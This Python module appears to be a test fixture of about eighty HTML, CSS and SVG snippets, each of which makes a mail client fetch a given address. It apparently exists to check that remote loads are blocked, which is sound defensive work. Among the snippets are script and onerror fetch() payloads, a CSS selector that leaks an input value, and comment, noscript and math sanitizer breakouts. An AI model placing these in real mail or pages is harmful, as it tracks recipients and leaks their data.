"""HTML by which mail can make a program ask somebody's server, one vector each; {} is the address that would be asked.

Made by hand from what HTML, CSS and SVG say can be fetched. What a browser does with the raw ones is a test of its own: a list that
nothing ever fetched from would prove nothing.
"""

from __future__ import annotations

LEAKS: dict[str, str] = {
    "img": '<img src="{}">',
    "img-unquoted": "<img src={} alt=x>",
    "img-case": '<IMG SRC="{}">',
    "img-lowsrc": '<img lowsrc="{0}" dynsrc="{0}" longdesc="{0}">',
    "img-srcset": '<img srcset="{} 1x">',
    "img-entity": '<img src="&#104;ttp{rest}">',
    "img-newline": '<img\nsrc\n=\n"{}">',
    "img-schemeless": '<img src="{schemeless}">',
    "image": "<image src={}>",
    "picture": '<picture><source srcset="{}"><img></picture>',
    "input-image": '<input type="image" src="{}">',
    "body-background": '<body background="{}">x</body>',
    "table-background": '<table background="{}"><tr><td background="{}">x</td></tr></table>',
    "style-background": '<p style="background:url({})">x</p>',
    "style-image": "<p style=\"background-image:url('{}')\">x</p>",
    "style-escape": '<p style="background:u\\72l({})">x</p>',
    "style-comment": '<p style="background:/**/url/**/({})">x</p>',
    "style-set": "<p style=\"background-image:image-set('{}' 1x)\">x</p>",
    "style-list": '<ul><li style="list-style-image:url({})">x</li></ul>',
    "style-border": '<p style="border-image:url({}) 30">x</p>',
    "style-cursor": '<p style="cursor:url({}),auto">x</p>',
    "style-content": '<p style="content:url({})">x</p>',
    "style-mask": '<p style="mask-image:url({});-webkit-mask-image:url({})">x</p>',
    "style-shape": '<p style="shape-outside:url({});float:left">x</p>',
    "style-filter": '<p style="filter:url({}#f);clip-path:url({}#c)">x</p>',
    "style-variable": '<p style="--a:url({});background:var(--a)">x</p>',
    "css-import": '<style>@import url("{}");</style>',
    "css-import-string": '<style>@import "{}";</style>',
    "css-font": "<style>@font-face{{font-family:a;src:url({})}} *{{font-family:a}}</style>x",
    "css-rule": "<style>body{{background:url({})}}</style>",
    "css-attribute": '<style>input[value^="s"]{{background:url({})}}</style><input value="secret">',
    "css-after": "<style>p::after{{content:url({})}}</style><p>x</p>",
    "css-in-noscript": '<noscript><p title="</noscript><style>*{{background:url({})}}</style>">',
    "link-style": '<link rel="stylesheet" href="{}">',
    "link-icon": '<link rel="icon" href="{}">',
    "link-prefetch": '<link rel="prefetch" href="{}">',
    "link-preload": '<link rel="preload" as="image" href="{}">',
    "link-modulepreload": '<link rel="modulepreload" href="{}">',
    "link-preconnect": '<link rel="preconnect" href="{}"><link rel="dns-prefetch" href="{}">',
    "link-manifest": '<link rel="manifest" href="{}">',
    "link-import": '<link rel="import" href="{}"><link rel="prerender" href="{}">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url={}">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri {}">',
    "base": '<base href="{}/"><img src="x">',
    "script": '<script src="{}"></script>',
    "script-fetch": "<script>fetch('{}')</script>",
    "handler": "<img src=x onerror=\"fetch('{}')\">",
    "svg-image": '<svg><image href="{}" xlink:href="{}"/></svg>',
    "svg-use": '<svg><use href="{}#a" xlink:href="{}#a"/></svg>',
    "svg-style": "<svg><style>@import url({});</style></svg>",
    "svg-feimage": '<svg><filter id="f"><feImage href="{}" xlink:href="{}"/></filter><rect filter="url(#f)" width="9"/></svg>',
    "svg-in-data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{}'/></svg>\">",
    "math": '<math><mtext><style><img src="{}"></style></mtext></math>',
    "video": '<video src="{}" autoplay></video>',
    "video-poster": '<video poster="{}"></video>',
    "video-source": '<video autoplay><source src="{}"><track src="{}" default></video>',
    "audio": '<audio src="{}" autoplay></audio>',
    "object": '<object data="{}"></object>',
    "object-param": '<object><param name="movie" value="{}"><param name="src" value="{}"></object>',
    "embed": '<embed src="{}">',
    "applet": '<applet code="x" codebase="{}" archive="{}"></applet>',
    "iframe": '<iframe src="{}"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc=\"<img src='{}'>\"></iframe>",
    "frameset": '<frameset><frame src="{}"></frameset>',
    "form": '<form action="{}" id="f"><input name="a"><button autofocus formaction="{}">Go</button></form>',
    "form-outside": '<input form="f" type="image" formaction="{}" src="{}">',
    "ping": '<a href="#x" ping="{}">x</a>',
    "anchor-prefetch": '<a href="{}" rel="prefetch">x</a>',
    "xml-stylesheet": '<?xml-stylesheet href="{}"?><xml src="{}"></xml>',
    "cid-not-there": '<img src="cid:nobody@nowhere"><img src="{}">',
    "background-quoted": '<div style="background: url(&quot;{}&quot;)">x</div>',
    "comment-breaks-out": '<!--><img src="{}">-->',
    "title-breaks-out": '<title></title><img src="{}"></title>',
    "template": '<template shadowrootmode="open"><img src="{}"></template>',
    "speculation": '<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{}"]}}]}}</script>',
    "portal": '<portal src="{}"></portal><fencedframe src="{}"></fencedframe>',
}


def html(name: str, address: str) -> str:
    """One vector. address: http://…; each asks for another path."""
    place = f"{address}/{name}"
    given = LEAKS[name]
    schemeless = place.removeprefix("http:")
    return given.format(*[place] * 4, rest=place.removeprefix("http"), schemeless=schemeless)


def everything(address: str) -> str:
    """All of them in one page, those that turn the rest of it into something else at the end."""
    last = ("comment-breaks-out", "title-breaks-out", "css-in-noscript", "frameset", "template", "math")
    return "\n".join(html(name, address) for name in [*(n for n in LEAKS if n not in last), *last])
